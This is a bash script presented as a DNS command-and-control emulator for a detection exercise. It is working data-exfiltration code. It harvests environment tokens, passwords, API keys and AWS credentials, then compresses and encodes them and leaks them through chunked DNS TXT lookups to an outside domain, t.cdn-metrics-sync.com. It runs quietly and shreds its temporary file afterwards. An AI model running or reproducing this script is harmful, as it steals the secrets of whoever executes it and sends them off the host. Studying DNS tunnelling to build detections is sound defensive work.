#!/usr/bin/env bash
# dns_beacon_emulator.sh - C2-over-DNS emulation for the detection exercise.
#
# Gathers "loot" from the current host, encodes it into DNS-safe labels and
# leaks it as lookups under the exercise domain, the way DNS tunnelling
# implants do.  Sequence numbers let the authoritative server reassemble it.

set -u

DOMAIN="${BEACON_DOMAIN:-t.cdn-metrics-sync.com}"
RESOLVER="${BEACON_RESOLVER:-}"
LABEL_LEN=52
DELAY="${BEACON_DELAY:-0.4}"
SPOOL="./.beacon-spool"

log() { [ -n "${BEACON_DEBUG:-}" ] && echo "[beacon] $*" >&2; return 0; }

pick_resolver_tool() {
    for tool in dig host nslookup; do
        if command -v "$tool" >/dev/null 2>&1; then
            echo "$tool"
            return 0
        fi
    done
    return 1
}

lookup() {
    local name="$1" tool="$2"
    case "$tool" in
        dig)      dig +short +tries=1 +time=2 ${RESOLVER:+@"$RESOLVER"} TXT "$name" >/dev/null 2>&1 ;;
        host)     host -t TXT -W 2 "$name" ${RESOLVER:+"$RESOLVER"} >/dev/null 2>&1 ;;
        nslookup) nslookup -type=TXT "$name" ${RESOLVER:+"$RESOLVER"} >/dev/null 2>&1 ;;
    esac
}

gather() {
    {
        echo "h=$(hostname)"
        echo "u=$(id -un)"
        # interesting environment: tokens, keys, passwords
        env | grep -Ei '(token|secret|passw|api_?key|access_key|session)' || true
        if [ -r "$HOME/.aws/credentials" ]; then
            grep -E 'aws_(access_key_id|secret_access_key|session_token)' "$HOME/.aws/credentials"
        fi
    } > "$SPOOL"
}

encode() {
    # base32 without padding, lower case, no newlines
    gzip -c "$SPOOL" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z'
}

send() {
    local data="$1" tool="$2"
    local sid total seq=0 off=0
    sid=$(printf '%04x' $((RANDOM)))
    total=$(( (${#data} + LABEL_LEN - 1) / LABEL_LEN ))
    log "session $sid: ${#data} chars in $total chunks"
    lookup "s.${total}.${sid}.${DOMAIN}" "$tool"
    while [ "$off" -lt "${#data}" ]; do
        local chunk="${data:$off:$LABEL_LEN}"
        lookup "${chunk}.${seq}.${sid}.${DOMAIN}" "$tool"
        seq=$((seq + 1))
        off=$((off + LABEL_LEN))
        sleep "$DELAY"
    done
    lookup "e.${seq}.${sid}.${DOMAIN}" "$tool"
}

main() {
    local tool payload
    tool=$(pick_resolver_tool) || { log "no resolver tool"; exit 0; }
    gather
    payload=$(encode)
    send "$payload" "$tool"
    shred -u "$SPOOL" 2>/dev/null || rm -f "$SPOOL"
    log "done"
}

main "$@"
